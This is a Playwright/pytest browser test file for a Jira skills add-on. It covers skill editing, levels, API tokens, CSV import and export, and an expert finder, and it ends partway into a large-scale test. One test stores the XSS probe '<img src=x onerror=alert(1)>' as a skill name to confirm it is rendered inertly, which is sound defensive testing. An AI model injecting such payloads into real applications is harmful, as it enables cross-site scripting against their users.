"""The pages in a real browser: Debian's Chromium, headless, driven by Playwright, against the app on
loopback. Jira's side (all.js) is the stand-in of tests/standin, whose tokens this test signs."""
from __future__ import annotations

import json
import os
import re
import unicodedata
import time
from typing import Any, Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from addon.skills.names import name_key

from .conftest import JiraActions, Tenant
from .pages_support import (JiraFrame, StandInServer, add_needed_skill, close_all, give, levels_of, rate,
                            search_skills, signed_page_url)

ADMIN = "acc-admin"
ALICE = "acc-alice"
BOB = "acc-bob"
SCREENSHOTS = os.environ.get("PAGE_SCREENSHOTS", "")  # a folder to keep screenshots in, when set


@pytest.fixture(scope="session")
def standin() -> Iterator[StandInServer]:
    server = StandInServer()
    yield server
    server.stop()


@pytest.fixture
def app_config(app_config: dict[str, Any], standin: StandInServer) -> dict[str, Any]:
    return {**app_config, "CONNECT_JS_URL": standin.url}




class Ui:
    """One browser context in which Jira (the stand-in) frames our pages for one viewer."""

    def __init__(self, browser: Browser, live_server: Any, tenant: Tenant, viewer: str) -> None:
        self.live_server = live_server
        self.tenant = tenant
        self.jira = JiraFrame(tenant, viewer)
        self.context = browser.new_context(viewport={"width": 1100, "height": 800})
        self.context.expose_binding("__standInHost", self.jira.handle)
        self.page: Page = self.context.new_page()
        self.problems: list[str] = []
        self.page.on("console", lambda msg: self.problems.append(msg.text) if msg.type == "error" else None)
        self.page.on("pageerror", lambda err: self.problems.append(str(err)))

    def open(self, path: str) -> Page:
        self.page.goto(self.live_server.url + signed_page_url(self.tenant, path, self.jira.viewer))
        return self.page

    def screenshot(self, name: str) -> None:
        if SCREENSHOTS:
            self.page.screenshot(path=os.path.join(SCREENSHOTS, name + ".png"), full_page=True)

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def tenant(jira: JiraActions) -> Tenant:
    return jira.install("tenant-a", admins={ADMIN})


@pytest.fixture
def ui(browser: Browser, live_server: Any, tenant: Tenant) -> Iterator[Any]:
    opened: list[Ui] = []

    def make(viewer: str) -> Ui:
        made = Ui(browser, live_server, tenant, viewer)
        opened.append(made)
        return made

    yield make
    # A console error is a failure: a script error, or a CSP violation (Chromium logs those as errors).
    close_all(opened)


def skills_of(jira: JiraActions, tenant: Tenant, account_id: str) -> list[str]:
    response = jira.request(tenant, "GET", f"/api/user-skills?accountId={account_id}", sub=account_id)
    assert response.status_code == 200
    return response.json["skills"]


def wait_until(page: Page, condition: Any, timeout_ms: int = 5000) -> None:
    """Let the browser run (and call the test's Jira) until `condition()` holds."""
    for _ in range(timeout_ms // 25):
        if condition():
            return
        page.wait_for_timeout(25)
    raise AssertionError("the page never did what was waited for")


def skill_names(page: Page) -> list[str]:
    return page.locator("#skill-list li .name").all_inner_texts()


# ---------------------------------------------------------------------------------------------
# A person's skills

def test_my_skills_add_with_enter_and_remove(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python", "SQL"])
    jira.request(tenant, "PUT", f"/api/user-skills?accountId={BOB}", sub=BOB, json={"skills": ["Kubernetes"]})
    me = ui(ALICE)
    me.jira.users[ALICE] = "Alice Example"
    page = me.open("/pages/user?accountId=")  # the profile menu's link: {ac.accountId} is empty

    expect(page.locator("h1")).to_have_text("My skills")
    expect(page.locator("#skill-list li")).to_have_count(2)
    assert skill_names(page) == ["Python", "SQL"]
    # The catalogue suggests what the person does not have yet.
    expect(page.locator("#skill-suggestions option")).to_have_count(1)
    assert page.locator("#skill-suggestions option").get_attribute("value") == "Kubernetes"

    field = page.get_by_label("Add a skill")
    field.fill("  Rust  ")
    field.press("Enter")
    expect(page.locator("#skill-list li")).to_have_count(3)
    expect(page.locator("#status")).to_have_text("Added Rust.")
    assert skill_names(page) == ["Python", "SQL", "Rust"]
    assert skills_of(jira, tenant, ALICE) == ["Python", "SQL", "Rust"]
    expect(field).to_be_focused()
    expect(field).to_have_value("")

    # The same skill in another case is already there: nothing changes.
    field.fill("python")
    page.get_by_role("button", name="Add", exact=True).click()
    expect(page.locator("#status")).to_have_text("Already listed: Python.")
    assert skills_of(jira, tenant, ALICE) == ["Python", "SQL", "Rust"]

    me.screenshot("user-own")
    page.get_by_role("button", name="Remove SQL").click()
    expect(page.locator("#skill-list li")).to_have_count(2)
    expect(page.locator("#status")).to_have_text("Removed SQL.")
    assert skills_of(jira, tenant, ALICE) == ["Python", "Rust"]
    # The keyboard stays in the list: focus moved to the next skill's remove button.
    expect(page.get_by_role("button", name="Remove Rust")).to_be_focused()
    assert me.jira.tokens_signed >= 4  # every API call asked Jira for a token
    assert page.evaluate("window.__standInResizes") > 0


def test_bad_skill_name_is_refused_and_nothing_changes(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python"])
    page = ui(ALICE).open("/pages/user")
    expect(page.locator("#skill-list li")).to_have_count(1)
    page.get_by_label("Add a skill").evaluate("(input) => input.removeAttribute('maxlength')")
    page.get_by_label("Add a skill").fill("x" * 101)
    page.get_by_label("Add a skill").press("Enter")
    expect(page.locator("#status")).to_have_text("A skill name has at most 100 characters.")
    assert skills_of(jira, tenant, ALICE) == ["Python"]


def test_someone_elses_skills_are_read_only(ui, jira, tenant):
    give(jira, tenant, BOB, ["Go", "Terraform", "<img src=x onerror=alert(1)>"])
    me = ui(ALICE)
    me.jira.users[BOB] = "Bob Builder"
    page = me.open(f"/pages/user?accountId={BOB}")
    expect(page.locator("h1")).to_have_text("Skills of Bob Builder")
    expect(page.locator("#skill-list li")).to_have_count(3)
    assert skill_names(page) == ["Go", "Terraform", "<img src=x onerror=alert(1)>"]  # shown as text
    expect(page.locator("#skill-list img")).to_have_count(0)
    expect(page.get_by_label("Add a skill")).to_have_count(0)
    expect(page.locator("button.remove")).to_have_count(0)
    expect(page.locator("#read-only-note")).to_be_visible()
    me.screenshot("user-other")


def test_admin_edits_someone_elses_skills(ui, jira, tenant):
    give(jira, tenant, BOB, ["Go"])
    page = ui(ADMIN).open(f"/pages/user?accountId={BOB}")
    # Jira does not show Bob to this viewer: the page falls back to the account id.
    expect(page.locator("h1")).to_have_text(f"Skills of {BOB}")
    page.get_by_label("Add a skill").fill("Helm")
    page.get_by_label("Add a skill").press("Enter")
    expect(page.locator("#skill-list li")).to_have_count(2)
    assert skills_of(jira, tenant, BOB) == ["Go", "Helm"]
    page.get_by_role("button", name="Remove Go").click()
    expect(page.locator("#skill-list li")).to_have_count(1)
    assert skills_of(jira, tenant, BOB) == ["Helm"]


def test_my_skills_show_their_levels_and_the_keyboard_sets_them(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python", "SQL"])
    rate(jira, tenant, ALICE, {"Python": 3})
    me = ui(ALICE)
    page = me.open("/pages/user")
    python, sql = page.get_by_label("Level of Python"), page.get_by_label("Level of SQL")
    expect(python).to_have_value("3")
    expect(sql).to_have_value("")
    assert sql.locator("option").all_inner_texts() == ["Not rated", "Beginner", "Competent", "Proficient", "Expert"]
    expect(python.locator("option:checked")).to_have_text("Proficient")

    # The keyboard alone: focus the picker, arrow to a level; each choice is saved, the last one stays.
    sql.focus()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    expect(page.locator("#status")).to_have_text("SQL: Competent.")
    expect(sql).to_be_focused()
    wait_until(page, lambda: levels_of(jira, tenant, ALICE) == [("Python", 3), ("SQL", 2)])

    # "Not rated" is a choice like any level.
    python.select_option(label="Not rated")
    expect(page.locator("#status")).to_have_text("Python: Not rated.")
    assert levels_of(jira, tenant, ALICE) == [("Python", None), ("SQL", 2)]

    # Adding a skill can set its level; the field and the picker are ready for the next one.
    page.get_by_label("Add a skill").fill("Rust")
    page.get_by_label("Level", exact=True).select_option(label="Expert")
    page.get_by_label("Add a skill").press("Enter")
    expect(page.locator("#status")).to_have_text("Added Rust (Expert).")
    expect(page.get_by_label("Level of Rust")).to_have_value("4")
    expect(page.get_by_label("Level", exact=True)).to_have_value("")
    # A skill already held takes the level chosen.
    page.get_by_label("Add a skill").fill("python")
    page.get_by_label("Level", exact=True).select_option(label="Beginner")
    page.get_by_role("button", name="Add", exact=True).click()
    expect(page.locator("#status")).to_have_text("Python is now Beginner.")
    expect(python).to_have_value("1")
    assert levels_of(jira, tenant, ALICE) == [("Python", 1), ("SQL", 2), ("Rust", 4)]
    me.screenshot("user-levels")


def test_a_skill_added_before_the_list_arrives_is_not_lost_when_it_does(ui, jira, tenant):
    """The page's first read answered by the server before the add, but delivered after it: the add
    waits for the list, so the older list cannot draw over it."""
    give(jira, tenant, ALICE, ["Go"])
    me = ui(ALICE)
    held = []

    def hold_first_read(route):
        if route.request.method == "GET" and not held:
            held.append((route, route.fetch()))  # the server answered: Go alone
        else:
            route.continue_()

    me.page.route("**/api/user-skill-levels?*", hold_first_read)
    page = me.open("/pages/user")
    wait_until(page, lambda: held)
    page.get_by_label("Add a skill").fill("Helm")
    page.get_by_label("Add a skill").press("Enter")
    page.wait_for_timeout(300)
    route, answer = held[0]
    route.fulfill(response=answer)
    expect(page.locator("#skill-list li .name")).to_have_text(["Go", "Helm"])
    expect(page.locator("#status")).to_have_text("Added Helm.")
    assert skills_of(jira, tenant, ALICE) == ["Go", "Helm"]


def test_someone_elses_levels_are_shown_read_only(ui, jira, tenant):
    give(jira, tenant, BOB, ["Go", "Terraform", "Helm"])
    rate(jira, tenant, BOB, {"Go": 4, "Terraform": 1})
    me = ui(ALICE)
    me.jira.users[BOB] = "Bob Builder"
    page = me.open(f"/pages/user?accountId={BOB}")
    expect(page.locator("#skill-list li")).to_have_count(3)
    expect(page.locator("#skill-list li").nth(0).locator(".lozenge")).to_have_text("Expert")
    expect(page.locator("#skill-list li").nth(1).locator(".lozenge")).to_have_text("Beginner")
    expect(page.locator("#skill-list li").nth(2).locator(".lozenge")).to_have_count(0)  # not rated
    expect(page.locator("#skill-list li").nth(0).locator(".lozenge")).to_have_class(re.compile("lozenge-expert"))
    expect(page.locator("#skill-list select")).to_have_count(0)
    me.screenshot("user-other-levels")


def test_an_admin_sets_someone_elses_levels(ui, jira, tenant):
    give(jira, tenant, BOB, ["Go"])
    page = ui(ADMIN).open(f"/pages/user?accountId={BOB}")
    page.get_by_label("Level of Go").select_option(label="Competent")
    expect(page.locator("#status")).to_have_text("Go: Competent.")
    assert levels_of(jira, tenant, BOB) == [("Go", 2)]


# ---------------------------------------------------------------------------------------------
# Admin page: API tokens

def open_admin_tab(ui, tab: str) -> tuple[Ui, Page]:
    admin = ui(ADMIN)
    page = admin.open("/pages/admin")
    expect(page.locator("#tree-editor")).to_have_attribute("aria-busy", "false")
    page.get_by_role("tab", name=tab).click()
    return admin, page


def test_admin_creates_a_token_shown_once_and_revokes_it(ui, jira, tenant, client):
    admin, page = open_admin_tab(ui, "API tokens")
    expect(page.locator("#no-tokens")).to_be_visible()
    page.get_by_label("Token name").fill("HR sync")
    page.get_by_label("Token name").press("Enter")
    shown = page.locator("#new-token-value")
    expect(shown).to_have_value(re.compile(r"^jus_"))
    expect(shown).to_be_focused()
    secret = shown.input_value()
    expect(page.locator("#token-rows tr")).to_have_count(1)
    expect(page.locator("#token-rows tr td").first).to_have_text("HR sync")
    assert secret not in page.locator("#token-table").inner_text()

    bearer = {"Authorization": "Bearer " + secret}
    assert client.get(f"/api/user-skills?accountId={ALICE}", headers=bearer).status_code == 200
    listed = jira.request(tenant, "GET", "/api/tokens", sub=ADMIN).json["tokens"]
    assert [t["name"] for t in listed] == ["HR sync"]
    admin.screenshot("admin-tokens")

    page.get_by_role("button", name="Revoke HR sync").click()
    page.get_by_role("group").get_by_role("button", name="Revoke", exact=True).click()
    expect(page.locator("#token-rows tr")).to_have_count(0)
    expect(page.locator("#status")).to_have_text("Revoked HR sync.")
    assert client.get(f"/api/user-skills?accountId={ALICE}", headers=bearer).status_code == 401
    assert jira.request(tenant, "GET", "/api/tokens", sub=ADMIN).json["tokens"] == []


def test_token_revoke_can_be_cancelled(ui, jira, tenant):
    created = jira.request(tenant, "POST", "/api/tokens", sub=ADMIN, json={"name": "Keep me"})
    assert created.status_code == 201
    admin, page = open_admin_tab(ui, "API tokens")
    expect(page.locator("#token-rows tr")).to_have_count(1)
    page.get_by_role("button", name="Revoke Keep me").click()
    page.get_by_role("group").get_by_role("button", name="Cancel").click()
    expect(page.get_by_role("button", name="Revoke Keep me")).to_be_focused()
    assert len(jira.request(tenant, "GET", "/api/tokens", sub=ADMIN).json["tokens"]) == 1


# ---------------------------------------------------------------------------------------------
# Admin page: everyone's skills as CSV

def all_skills(jira, tenant):
    return jira.request(tenant, "GET", "/api/skills-by-account", sub=ADMIN).json["skillsByAccountId"]


def test_csv_export_has_one_row_per_holding_with_its_level(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python", 'Data, "big"'])
    give(jira, tenant, BOB, ["Go"])
    rate(jira, tenant, ALICE, {"Python": 4})
    admin, page = open_admin_tab(ui, "People's skills (CSV)")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download skills.csv").click()
    assert download.value.suggested_filename == "skills.csv"
    with open(download.value.path(), encoding="utf-8", newline="") as fh:
        text = fh.read()
    assert text == ('accountId,skill,level\r\n'
                    f'{ALICE},Python,Expert\r\n'
                    f'{ALICE},"Data, ""big""",\r\n'
                    f'{BOB},Go,\r\n')


def test_csv_import_shows_the_changes_before_applying_them(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python", "SQL"])
    give(jira, tenant, BOB, ["Go"])
    give(jira, tenant, "acc-dave", ["Java"])
    give(jira, tenant, "acc-eve", ["Excel"])  # not in the file: untouched
    csv = ("\ufeffaccountId,skill\r\n"
           f"{ALICE},Python\r\n"
           f"{ALICE},Rust\r\n"
           f"{ALICE},rust\r\n"              # the same skill twice, in another case
           f"{BOB},\r\n"                    # Bob ends up with no skills
           'acc-carol,"Data, ""big"""\n'   # a quoted name with a comma and quotes
           "acc-dave,java\r\n")             # Dave already has it (names compare case-insensitively)
    admin, page = open_admin_tab(ui, "People's skills (CSV)")
    admin.jira.users[ALICE] = "Alice Example"
    page.get_by_label("CSV file").set_input_files(
        files=[{"name": "skills.csv", "mimeType": "text/csv", "buffer": csv.encode("utf-8")}])
    page.get_by_role("button", name="Preview changes").click()

    heading = page.locator("#csv-preview-heading")
    expect(heading).to_have_text("Preview: 3 people change (2 skills added, 2 removed); 1 unchanged.")
    expect(heading).to_be_focused()
    rows = page.locator("#csv-preview-table tbody tr")
    expect(rows).to_have_count(3)
    expect(rows.nth(0)).to_contain_text("Alice Example")  # Jira's name for those it tells us about
    expect(rows.nth(1).locator(".person-name")).to_have_text(BOB)  # the account id for the others
    table = [[cell.inner_text() for cell in row.locator("td").all()[1:]] for row in rows.all()]
    assert table == [["Rust", "SQL"], ["", "Go"], ['Data, "big"', ""]]
    admin.screenshot("admin-csv-preview")
    # Nothing changed before the admin says so.
    assert all_skills(jira, tenant)[ALICE] == ["Python", "SQL"]

    page.get_by_role("button", name="Apply changes").click()
    expect(page.locator("#csv-applied")).to_have_text("Saved. 3 people updated: 2 skills added, 2 removed.")
    assert all_skills(jira, tenant) == {ALICE: ["Python", "Rust"], "acc-carol": ['Data, "big"'],
                                        "acc-dave": ["Java"], "acc-eve": ["Excel"]}


def test_csv_import_with_a_bad_row_changes_nothing(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python"])
    csv = f"accountId,skill\n{ALICE},Rust\nnot an id,Go\n{BOB},{'x' * 101}\n"
    admin, page = open_admin_tab(ui, "People's skills (CSV)")
    page.get_by_label("CSV file").set_input_files(
        files=[{"name": "bad.csv", "mimeType": "text/csv", "buffer": csv.encode()}])
    page.get_by_role("button", name="Preview changes").click()
    alert = page.locator("#csv-result [role=alert]")
    expect(alert).to_contain_text("Nothing was changed: the file has 2 problem(s).")
    expect(alert).to_contain_text("Row 3:")
    expect(alert).to_contain_text("Row 4: a skill name has at most 100 characters.")
    expect(page.get_by_role("button", name="Apply changes")).to_have_count(0)
    assert all_skills(jira, tenant) == {ALICE: ["Python"]}


def test_csv_import_cancelled_changes_nothing(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python"])
    admin, page = open_admin_tab(ui, "People's skills (CSV)")
    page.get_by_label("CSV file").set_input_files(
        files=[{"name": "s.csv", "mimeType": "text/csv", "buffer": f"accountId,skill\n{ALICE},Go\n".encode()}])
    page.get_by_role("button", name="Preview changes").click()
    expect(page.locator("#csv-preview-table tbody tr")).to_have_count(1)
    page.get_by_role("button", name="Cancel").click()
    expect(page.locator("#status")).to_have_text("Import cancelled; nothing was changed.")
    assert all_skills(jira, tenant) == {ALICE: ["Python"]}


def test_csv_import_with_levels_shows_the_level_changes_before_applying_them(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python", "SQL"])
    rate(jira, tenant, ALICE, {"Python": 1, "SQL": 3})
    give(jira, tenant, BOB, ["Go"])
    rate(jira, tenant, BOB, {"Go": 2})
    csv = ("accountId,skill,level\r\n"
           f"{ALICE},python,expert\r\n"    # a level by name, any case: Beginner -> Expert
           f"{ALICE},SQL,3\r\n"            # by number: unchanged
           f"{ALICE},Rust,2\r\n"           # added at Competent
           f"{BOB},Go,Competent\r\n"       # nothing changes for Bob
           "acc-carol,Figma,\r\n")         # added, not rated
    admin, page = open_admin_tab(ui, "People's skills (CSV)")
    page.get_by_label("CSV file").set_input_files(
        files=[{"name": "levels.csv", "mimeType": "text/csv", "buffer": csv.encode()}])
    page.get_by_role("button", name="Preview changes").click()
    expect(page.locator("#csv-preview-heading")).to_have_text(
        "Preview: 2 people change (2 skills added, 0 removed, 1 levels changed); 1 unchanged.")
    expect(page.locator("#csv-preview-table thead th")).to_have_text(["Person", "Added", "Removed", "Level changes"])
    rows = page.locator("#csv-preview-table tbody tr")
    table = [[cell.inner_text() for cell in row.locator("td").all()[1:]] for row in rows.all()]
    assert table == [["Rust (Competent)", "", "Python: Beginner → Expert"], ["Figma", "", ""]]
    admin.screenshot("admin-csv-levels-preview")
    assert levels_of(jira, tenant, ALICE) == [("Python", 1), ("SQL", 3)]  # nothing saved yet
    page.get_by_role("button", name="Apply changes").click()
    expect(page.locator("#csv-applied")).to_have_text(
        "Saved. 2 people updated: 2 skills added, 0 removed, 1 levels changed.")
    assert levels_of(jira, tenant, ALICE) == [("Python", 4), ("SQL", 3), ("Rust", 2)]
    assert levels_of(jira, tenant, "acc-carol") == [("Figma", None)]
    assert levels_of(jira, tenant, BOB) == [("Go", 2)]


def test_csv_import_without_a_level_column_keeps_levels_and_a_bad_level_changes_nothing(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python", "SQL"])
    rate(jira, tenant, ALICE, {"Python": 4})
    admin, page = open_admin_tab(ui, "People's skills (CSV)")
    page.get_by_label("CSV file").set_input_files(files=[{
        "name": "bad.csv", "mimeType": "text/csv",
        "buffer": f"accountId,skill,level\n{ALICE},Python,Guru\n{ALICE},Go,9\n{BOB},Go,1\n{BOB},go,2\n".encode()}])
    page.get_by_role("button", name="Preview changes").click()
    alert = page.locator("#csv-result [role=alert]")
    expect(alert).to_contain_text("Nothing was changed: the file has 3 problem(s).")
    expect(alert).to_contain_text("Row 2: “Guru” is not a level of this site (1 to 4, or Beginner, Competent, Proficient, Expert).")
    expect(alert).to_contain_text("Row 3: “9” is not a level")
    expect(alert).to_contain_text(f"Row 5: go is listed for {BOB} twice, with different levels.")
    page.get_by_label("CSV file").set_input_files(files=[{
        "name": "plain.csv", "mimeType": "text/csv", "buffer": f"accountId,skill\n{ALICE},Python\n{ALICE},Go\n".encode()}])
    page.get_by_role("button", name="Preview changes").click()
    expect(page.locator("#csv-preview-heading")).to_have_text(
        "Preview: 1 person changes (1 skills added, 1 removed); 0 unchanged.")
    page.get_by_role("button", name="Apply changes").click()
    expect(page.locator("#csv-applied")).to_be_visible()
    assert levels_of(jira, tenant, ALICE) == [("Python", 4), ("Go", None)]  # Python keeps its level


def test_csv_reader_follows_rfc_4180(ui, tenant):
    admin = ui(ADMIN)
    page = admin.open("/pages/admin")
    parsed = page.evaluate("(text) => SkillsCsv.parse(text)", 'a,b\r\n"x, ""y""","line\nbreak"\r\nlast,\n,\n')
    assert parsed == [["a", "b"], ['x, "y"', "line\nbreak"], ["last", ""], ["", ""]]
    text = page.evaluate("""() => SkillsCsv.format([["accountId", "skill"], ["a1", 'q"uote'], ["a2", "c,omma"]])""")
    assert text == 'accountId,skill\r\na1,"q""uote"\r\na2,"c,omma"\r\n'
    with pytest.raises(Exception, match="not closed"):
        page.evaluate("(text) => SkillsCsv.parse(text)", 'a,"open\n')
    # Requests stay inside the API's limits: at most this many accounts and bytes each.
    sizes = page.evaluate("""() => {
        const all = {};
        for (let i = 0; i < 25; i++) all['acc-' + i] = ['Skill ' + i];
        return SkillsCsv.batches(all, 10, 100000).map(b => Object.keys(b).length);
    }""")
    assert sizes == [10, 10, 5]
    by_bytes = page.evaluate("""() => SkillsCsv.batches({a: ['x'.repeat(60)], b: ['y'.repeat(60)]}, 10, 100)
        .map(b => Object.keys(b))""")
    assert by_bytes == [["a"], ["b"]]


def test_csv_import_refuses_the_names_the_server_refuses(ui, tenant):
    """Control and format characters (but the joiners) are refused by the preview, as the server would."""
    import sys
    import unicodedata

    page = ui(ADMIN).open("/pages/admin")
    text = ("accountId,skill\nacc-1,Py\u202ethon\nacc-1,Go\u200b\nacc-1,\ufeffRust\nacc-1,tab\there\n"
            "acc-1,\U0001f469\u200d\U0001f4bb\nacc-1,\u0645\u06cc\u200c\u062e\n")
    read = page.evaluate("(text) => SkillsCsv.toSkillsByAccount(text)", text)
    assert read["skillsByAccountId"] == {"acc-1": ["\U0001f469\u200d\U0001f4bb", "\u0645\u06cc\u200c\u062e"]}
    assert read["errors"] == [f"Row {n}: the skill contains invisible formatting characters." for n in (2, 3, 4)] + [
        "Row 5: the skill contains control characters."]
    # Exactly the server's set, checked on every code point against this Python's Unicode database.
    refused = page.evaluate("""() => {
        const out = [];
        for (let cp = 0; cp <= 0x10ffff; cp++) {
            if (cp >= 0xd800 && cp <= 0xdfff) continue;
            if (SkillsNames.hasFormat('a' + String.fromCodePoint(cp) + 'b')) out.push(cp);
        }
        return out;
    }""")
    assert refused == [cp for cp in range(sys.maxunicode + 1) if unicodedata.category(chr(cp)) == "Cf"
                       and cp not in (0x200C, 0x200D)]


# ---------------------------------------------------------------------------------------------
# The expert finder

def category(name: str, *children: dict) -> dict:
    return {"type": "category", "displayName": name, "children": list(children)}


def skill(name: str) -> dict:
    return {"type": "skill", "key": name}


def set_tree(jira, tenant, *nodes: dict) -> list[dict]:
    response = jira.request(tenant, "PUT", "/api/skill-tree", sub=ADMIN, json={"skillTree": list(nodes)})
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.json["skillTree"]


def tree_of(jira, tenant) -> list[dict]:
    return jira.request(tenant, "GET", "/api/skill-tree", sub=ADMIN).json["skillTree"]


@pytest.fixture
def experts(jira, tenant):
    """Engineering > (Python, Backend > Go), Design > Figma; Negotiation in no category."""
    set_tree(jira, tenant, category("Engineering", skill("Python"), category("Backend", skill("Go"))),
             category("Design", skill("Figma")))
    give(jira, tenant, ALICE, ["Python", "Go"])
    give(jira, tenant, BOB, ["Python"])
    give(jira, tenant, "acc-carol", ["Figma", "Negotiation"])


def tree_row(page: Page, name: str):
    return page.locator("#tree li").filter(has=page.locator(f'> .tree-row:has-text("{name}")')).first


def test_finder_shows_the_tree_with_experts_per_skill(ui, experts):
    me = ui(ALICE)
    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder"})
    page = me.open("/pages/finder")
    top = page.locator("#tree > ul > li")
    expect(top).to_have_count(3)
    assert [row.locator(".tree-row").first.inner_text().split("\n")[0] for row in top.all()] == \
        ["Engineering", "Design", "Negotiation"]
    assert me.jira.bulk_calls == []  # nobody is looked up before a skill is opened

    page.get_by_role("button", name="Engineering").click()
    expect(page.get_by_role("button", name="Engineering")).to_have_attribute("aria-expanded", "true")
    python = page.get_by_role("button", name=re.compile(r"^Python"))
    expect(python.locator(".badge")).to_have_text("2")
    python.click()
    people = page.get_by_role("list", name="People who know Python")
    expect(people.locator(".person-name")).to_have_text(["Alice Example", "Bob Builder"])
    me.screenshot("finder")

    page.get_by_role("button", name=re.compile(r"^Negotiation")).click()
    # Jira does not tell this viewer about Carol: her account id stands in.
    expect(page.get_by_role("list", name="People who know Negotiation").locator(".person-name")).to_have_text(["acc-carol"])

    people.get_by_role("button", name="Bob Builder").click()
    wait_until(page, lambda: me.jira.navigations)
    assert me.jira.navigations[-1] == {"target": "addonModule", "context": {
        "addonKey": "jira-user-skills", "moduleKey": "user-skills", "customData": {"accountId": BOB}}}
    assert all(len(ids) <= 90 for ids in me.jira.bulk_calls)
    assert all("maxResults=90" in url for url in me.jira.rest_calls if "/user/bulk" in url)


def test_finder_filter_and_search_for_people_with_all_skills(ui, experts):
    me = ui(BOB)
    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder"})
    page = me.open("/pages/finder")
    expect(page.locator("#tree > ul > li")).to_have_count(3)

    page.get_by_label("Filter skills").fill("GO")
    expect(page.locator("#status")).to_have_text("2 skills match.")
    rows = page.locator("#tree > ul > li")
    expect(rows).to_have_count(2)
    expect(rows.nth(0)).to_contain_text("Go")
    expect(rows.nth(0).locator(".path")).to_have_text("Engineering › Backend")
    expect(rows.nth(1)).to_contain_text("Negotiation")
    page.get_by_label("Filter skills").fill("")
    expect(page.locator("#tree > ul > li")).to_have_count(3)

    search = page.get_by_label("Skill", exact=True)
    search.fill("python")
    search.press("Enter")
    expect(page.locator(".search-summary")).to_have_text("2 people have Python.")
    search.fill("Go")
    search.press("Enter")
    expect(page.locator(".search-summary")).to_have_text("2 people match; 1 has all of: Python, Go.")
    ranked = page.get_by_role("list", name="People for Python, Go")
    expect(ranked.locator(".person-name")).to_have_text(["Alice Example", "Bob Builder"])
    expect(ranked.locator(".why")).to_have_text(["covers all 2", "covers 1 of 2, missing Go"])
    search.fill("Figma")
    search.press("Enter")
    expect(page.locator(".search-summary")).to_have_text("3 people match; none has all of: Python, Go, Figma.")
    page.get_by_role("button", name="Remove Python from the search").click()
    page.get_by_role("button", name="Remove Go from the search").click()
    expect(page.locator(".search-summary")).to_have_text("1 person has Figma.")
    search.fill("Cobol")
    search.press("Enter")
    expect(page.locator("#search-status")).to_have_text("No one has a skill called “Cobol”.")
    me.screenshot("finder-search")


def test_finder_shows_levels_highest_first_and_filters_at_least_a_level(ui, jira, tenant, experts):
    rate(jira, tenant, BOB, {"Python": 4})
    rate(jira, tenant, ALICE, {"Python": 2})
    rate(jira, tenant, "acc-dan", {"Python": 3, "Go": 4})
    me = ui(ALICE)
    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder", "acc-dan": "Dan Dev"})
    page = me.open("/pages/finder")
    page.get_by_role("button", name="Engineering").click()
    page.get_by_role("button", name=re.compile(r"^Python")).click()
    people = page.get_by_role("list", name="People who know Python")
    expect(people.locator(".person-name")).to_have_text(["Bob Builder", "Dan Dev", "Alice Example"])
    expect(people.locator("li")).to_have_text(["Bob BuilderExpert", "Dan DevProficient", "Alice ExampleCompetent"])
    expect(people.locator(".lozenge-expert")).to_have_count(2)  # Proficient (3) and up count as expert

    # The filter, from the keyboard: every skill shown draws its people again.
    level = page.get_by_label("Level", exact=True)
    assert level.locator("option").all_inner_texts() == ["Any level", "At least Beginner", "At least Competent",
                                                         "At least Proficient", "At least Expert"]
    level.focus()
    for _ in range(3):
        page.keyboard.press("ArrowDown")
    expect(level).to_have_value("3")
    expect(people.locator(".person-name")).to_have_text(["Bob Builder", "Dan Dev"])
    expect(page.locator(".level-summary")).to_have_text("2 people of 3 at Proficient or above.")
    search = page.get_by_label("Skill", exact=True)
    search.fill("python")
    search.press("Enter")
    expect(page.locator(".search-summary")).to_have_text("2 people have Python at Proficient or above.")
    search.fill("Go")
    search.press("Enter")
    expect(page.locator(".search-summary")).to_have_text("2 people match; 1 has all of: Python, Go at Proficient or above.")
    # The filter is every searched skill's minimum, shown on its chip, which can still change its own.
    expect(page.get_by_label("Minimum level of Go")).to_have_value("3")
    me.screenshot("finder-levels")
    level.select_option(label="At least Expert")
    expect(page.locator(".search-summary")).to_have_text("2 people match; none has all of: Python, Go at Expert or above.")
    expect(people.locator(".person-name")).to_have_text(["Bob Builder"])
    page.get_by_role("button", name=re.compile(r"^Design")).click()
    page.get_by_role("button", name=re.compile(r"^Figma")).click()
    expect(page.locator('[data-skill="Figma"] .experts')).to_have_text("No one holds Figma at Expert or above.")
    level.select_option(label="Any level")
    expect(people.locator(".person-name")).to_have_text(["Bob Builder", "Dan Dev", "Alice Example"])
    expect(page.locator(".search-summary")).to_have_text("3 people match; 2 have all of: Python, Go.")
    expect(page.get_by_role("list", name="People who know Figma").locator(".person-name")).to_have_text(["acc-carol"])


def test_finder_with_ten_thousand_people_and_two_thousand_skills(ui, jira, tenant):
    people, n_skills, per_category = 10_000, 2_000, 50
    names = [f"Skill {i:04d}" for i in range(n_skills)]
    set_tree(jira, tenant, *[category(f"Area {c:02d}", *[skill(n) for n in names[c * per_category:(c + 1) * per_category]])
                             for c in range(n_skills // per_category)])
    # Everyone knows Skill 0000, and two more skills spread over the catalogue.
    holdings = {f"acc-{p:05d}": list(dict.fromkeys([names[0], names[p % n_skills], names[(p * 7 + 3) % n_skills]]))
                for p in range(people)}
    response = jira.request(tenant, "POST", "/api/skills-by-account", sub=ADMIN, json={"skillsByAccountId": holdings})
    assert response.status_code == 200, response.get_data(as_text=True)

    me = ui(ADMIN)
    me.jira.users.update({f"acc-{p:05d}": f"Person {p}" for p in range(0, people, 2)})  # Jira shows half of them
    page = me.open("/pages/finder")
    # What this test checks is the page at this size, not its speed (the large-tenant test below and
    # the benchmark time it): the first load may wait on a busy shared machine, as in that test.
    expect(page.locator("#status")).to_have_text("2000 skills in the tree.", timeout=30_000)
